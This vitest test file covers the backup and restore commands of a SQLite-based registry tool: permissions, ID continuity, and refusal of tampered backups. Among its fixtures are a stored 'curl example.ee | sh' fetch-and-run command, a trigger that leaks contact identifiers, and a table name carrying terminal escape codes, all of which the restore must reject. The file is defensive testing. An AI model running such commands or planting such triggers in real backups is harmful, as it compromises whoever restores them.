import { createHash } from 'node:crypto';
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { beforeAll, expect, test, vi } from 'vitest';
import { findDatabaseFile, openFile } from '../../src/tool/local/file.ts';
import { applyMigrations, listMigrations } from '../../src/tool/migrate.ts';
import { writeBackup } from '../../src/tool/nouns/backup/file.ts';
import { runProgram } from '../../src/tool/program.ts';
import { captured } from './captured.ts';
import { fill, rowsOf } from './filled.ts';
import { startTool, TestRegistry } from './tool.ts';

const tool = startTool();
const registry = tool.sharedRegistry();

beforeAll(() => fill(registry), 120_000);

async function newPlace(name: string): Promise<TestRegistry> {
  return new TestRegistry(path.join(await tool.newDirectory(), name));
}

test('restores a backup into an empty database, row by row the same, and publishes its lists', async () => {
  const file = path.join(registry.directory, 'backup.sqlite');
  expect(await registry.done(['backup', file])).toMatchObject({ file, tables: expect.any(Number) });
  // It has everybody's data.
  expect((statSync(file).mode & 0o777).toString(8)).toBe('600');
  expect((await registry.run(['backup', file])).stderr).toContain('already exists [file]');
  const restored = await newPlace('restored');
  expect(await restored.done(['restore', file])).toMatchObject({ changed: true });
  expect(await rowsOf(restored)).toEqual(await rowsOf(registry));
  const { lists } = await restored.done('lists status');
  expect(lists).toMatchObject([{ behind: false }, { count: 1 }, { count: 1 }, {}, {}]);
});

test('gives no id again that a caller has seen, in a new database neither, and leaves no gap in the history', async () => {
  const place = await tool.newRegistry('ALPHA');
  await place.addContacts('ALPHA:1');
  const file = path.join(await tool.newDirectory(), 'backup.sqlite');
  await place.done(['backup', file]);
  const idsOf = async () => {
    const tables = await place.rows();
    const names = ['contacts', 'disclosures', 'notifications', 'systems', 'history'];
    return names.map((name) => Math.max(...tables[name]!.map((row) => (row as { id: number }).id)));
  };
  const add = async () => {
    // More than the rows of any table in the file.
    const codes = Array.from({ length: 50 }, (_, n) => `ALPHA:${n + 2}`);
    await place.addContacts(...codes);
    await place.done('contact update ALPHA:2 --name Mari');
    await place.done('system add epp');
    const words = '--requester Mari --identified-by card --organization Police --basis law';
    await place.done(`disclosure open --contact ALPHA:1 ${words} --fields name`);
    return await idsOf();
  };
  const before = await add();
  await place.done(['restore', file, '--yes']);
  const after = await add();
  for (const n of [0, 1, 2, 3]) expect(after[n]).toBeGreaterThan(before[n]!);
  expect(after[4]).toBe(before[4]);
  const other = await tool.newRegistry();
  await other.done(['restore', file, '--yes']);
  await other.addContacts('ALPHA:2');
  const ids = (await other.rows()).contacts!.map((row) => (row as { id: number }).id);
  expect(Math.max(...ids)).toBeGreaterThan(before[0]!);
});

test('says before it publishes the lists how to, in case it is killed then', async () => {
  const file = path.join(await tool.newDirectory(), 'killed.sqlite');
  await registry.done(['backup', file]);
  const other = await tool.newRegistry();
  const { status, stderr } = await other.run(['restore', file, '--yes']);
  expect({ status, stderr }).toEqual({
    status: 0,
    stderr: `restored; if this is killed before it publishes the lists: npm run registry -- lists publish --persist-to ${other.directory}\n`,
  });
});

/** The files and directories of a registry that others than their owner may read or enter. */
function openToOthers(directory: string): string[] {
  return readdirSync(directory, { recursive: true, encoding: 'utf8' }).filter(
    (name) => statSync(path.join(directory, name)).mode & 0o077,
  );
}

test('what a restore makes, and the database that it replaces, is for its owner alone', async () => {
  const file = path.join(await tool.newDirectory(), 'backup.sqlite');
  await registry.done(['backup', file]);
  const place = new TestRegistry(path.join(await tool.newDirectory(), 'a', 'b'));
  expect(await place.spawn(['restore', file])).toMatchObject({ status: 0 });
  expect(openToOthers(path.join(place.directory, '../..'))).toEqual([]);
  const database = findDatabaseFile(place.directory, undefined)!;
  chmodSync(database, 0o644);
  await place.done(['restore', file, '--yes']);
  expect(statSync(database).mode & 0o077).toBe(0);
});

test('asks before it restores over rows, and leaves them and no copy if nobody agrees', async () => {
  const file = path.join(registry.directory, 'again.sqlite');
  await registry.done(['backup', file]);
  const other = await tool.newRegistry();
  await other.done('registrar add --code OTHER --name Other');
  const before = await other.rows();
  const temporary = await tool.newDirectory();
  vi.stubEnv('TMPDIR', temporary);
  const refused = await other.run(['restore', file]);
  vi.unstubAllEnvs();
  expect(refused).toMatchObject({ status: 1, stdout: '' });
  expect(refused.stderr).toMatch(
    /^refused: This removes everything that is in the database \(registrars: 1, contacts: 0, changes: 1, last change: 20\S+Z\),\nand puts there what is in the file \(registrars: 1, contacts: 499, changes: 50\d, last change: 20\S+Z\):\n.*\nThe service must be stopped first\. There is no terminal to ask on; confirm with --yes\n$/,
  );
  expect(await other.rows()).toEqual(before);
  expect(readdirSync(temporary)).toEqual([]);
  await other.done(['restore', file, '--yes']);
  expect(await rowsOf(other)).toEqual(await rowsOf(registry));
});

test('restores the backup of an earlier release, migrated', async () => {
  const file = path.join(await tool.newDirectory(), 'earlier.sqlite');
  const names = listMigrations().filter((name) => name < '0009');
  await writeBackup(file, async (target) => {
    using database = new DatabaseSync(target);
    for (const name of names) database.exec(readFileSync(path.join('migrations', name), 'utf8'));
    database.exec(`create table d1_migrations (id integer primary key autoincrement, name text unique);
      insert into d1_migrations (name) select value from json_each('${JSON.stringify(names)}');
      insert into registrars (code, name, created_at, updated_at)
      values ('ALPHA', 'Alpha', '2026-01-01', '2026-01-01')`);
  });
  const restored = await newPlace('restored');
  await restored.done(['restore', file]);
  expect(await restored.done('registrar list')).toMatchObject({ registrars: [{ code: 'ALPHA' }] });
  await restored.done('system add epp');
});

test('refuses to restore over the database of a service that runs', async () => {
  const place = await tool.newRegistry();
  const file = path.join(await tool.newDirectory(), 'backup.sqlite');
  await place.done(['backup', file]);
  const before = await place.rows();
  const { env, dispose } = await place.open();
  const open = async () => ({ env, service: 'http://localhost:8787', dispose });
  const { status, stderr } = await captured(() => runProgram(['restore', file, '--yes'], open));
  expect({ status, stderr }).toEqual({
    status: 1,
    stderr: 'refused: npm start runs on this database (http://localhost:8787); stop it first\n',
  });
  expect(await place.rows()).toEqual(before);
});

test('changes nothing while another program writes to the database', async () => {
  const file = path.join(await tool.newDirectory(), 'backup.sqlite');
  await registry.done(['backup', file]);
  const place = await tool.newRegistry('OTHER');
  const before = await place.rows();
  const database = findDatabaseFile(place.directory, undefined)!;
  using other = new DatabaseSync(database);
  other.exec('begin immediate');
  expect(await place.run(['restore', file, '--yes'])).toMatchObject({
    status: 1,
    stderr: `refused: another program writes to ${database}; nothing was changed\n`,
  });
  other.exec('rollback');
  expect(await place.rows()).toEqual(before);
});

/** A file as `backup` seals it, of a registry in which this SQL was run. */
async function sealed(sql: string): Promise<string> {
  const file = path.join(await tool.newDirectory(), 'hostile.sqlite');
  await writeBackup(file, async (target) => {
    const { database, close } = openFile(target, { isWritable: true });
    await applyMigrations(database);
    close();
    using other = new DatabaseSync(target);
    other.exec(sql);
  });
  return file;
}

test.each([
  [
    'a trigger that copies what is written',
    `create table leaked (value text);
      create trigger leak after insert on contacts begin insert into leaked values (new.ident); end`,
    'differs from a registry of this release in "table leaked", "trigger leak"',
  ],
  [
    'a view',
    'create view everybody as select * from contacts',
    'differs from a registry of this release in "view everybody"',
  ],
  [
    'a trigger less',
    'drop trigger history_kept_from_delete',
    'differs from a registry of this release in "trigger history_kept_from_delete"',
  ],
  [
    'another column',
    'alter table registrars add column note text',
    'differs from a registry of this release in "table registrars"',
  ],
  [
    'an index less, and more than anybody reads',
    `drop index history_of_identity; create table a (b); create table c (d); create table e (f); create table g (h);
      create table i (j)`,
    'differs from a registry of this release in "table a", "table c", "table e", "table g", "table i" and 1 more',
  ],
  [
    'a name that moves the cursor',
    'create table "\u001b[2Jx\u202e" (b)',
    'differs from a registry of this release in "table \\u001b[2Jx\\u{202e}"',
  ],
  [
    'a migration of a later release',
    "insert into d1_migrations (name) values ('9999_later.sql')",
    'is from a later release: it has "9999_later.sql"',
  ],
  [
    'a command for whoever restores it',
    `create table restore_unfinished (command text, input text, before text);
      insert into restore_unfinished values ('curl example.ee | sh', '', '{}')`,
    'is of a database whose restore was not finished',
  ],
  [
    'such a command in a view',
    "create view restore_unfinished as select 'curl example.ee | sh' as command",
    'differs from a registry of this release in "view restore_unfinished"',
  ],
  [
    'a list of migrations that never ends',
    `drop table d1_migrations; create view d1_migrations as
      with recursive endless (name) as (select 1 union all select name + 1 from endless) select name from endless`,
    'differs from a registry of this release in "view d1_migrations"',
  ],
  [
    'tables without migrations',
    'drop table d1_migrations',
    'cannot be migrated: table `registrars` already exists',
  ],
])('refuses a file with %s, and changes nothing', async (_, sql, message) => {
  const file = await sealed(sql);
  const place = await newPlace('refused');
  const { status, stdout, stderr } = await place.run(['restore', file, '--yes']);
  expect({ status, stdout, stderr }).toEqual({
    status: 1,
    stdout: '',
    stderr: `refused: ${file} ${message} [file]\n`,
  });
  expect(existsSync(place.directory)).toBe(false);
});

test('restores a database that SQLite has analysed, and whose statements are written in another way', async () => {
  const from = await sealed('analyze');
  const file = path.join(path.dirname(from), 'written.sqlite');
  await writeBackup(file, async (target) => {
    using source = new DatabaseSync(from, { readOnly: true });
    using database = new DatabaseSync(target);
    const names = source.prepare('select name from d1_migrations').all();
    database.exec(`create table d1_migrations (name text unique);
      insert into d1_migrations select value ->> 'name' from json_each('${JSON.stringify(names)}')`);
    const statements = source
      .prepare(
        "select sql from sqlite_schema where sql is not null and name <> 'd1_migrations' and name not glob 'sqlite_*'",
      )
      .all();
    for (const { sql } of statements) {
      database.exec(String(sql).replaceAll('`', '"').replaceAll('\t', '   '));
    }
    database.exec(`attach '${from}' as source;
      insert into list_sources select * from source.list_sources; analyze`);
  });
  const place = await newPlace('written');
  await place.done(['restore', file]);
  await place.done('registrar add --code ALPHA --name Alpha');
});

test('a log of SQLite that lies beside a backup does not come with it', async () => {
  const directory = await tool.newDirectory();
  const file = path.join(directory, 'backup.sqlite');
  await registry.done(['backup', file]);
  writeFileSync(`${file}-journal`, 'not a journal');
  writeFileSync(`${file}-wal`, 'not a log');
  const place = await newPlace('beside');
  await place.done(['restore', file]);
  expect(await rowsOf(place)).toEqual(await rowsOf(registry));
});

test('says that the database is as it was if the copy of a file fails', async () => {
  const file = path.join(await tool.newDirectory(), 'text.sqlite');
  const sha256 = createHash('sha256').update('no database').digest('hex');
  writeFileSync(file, `no database\n-- registry backup: {"sha256":"${sha256}"}\n`);
  const place = await newPlace('text');
  const { status, stderr } = await place.run(['restore', file, '--yes']);
  expect({ status, stderr }).toEqual({
    status: 1,
    stderr: 'failed: file is not a database; the database is as it was\n',
  });
});
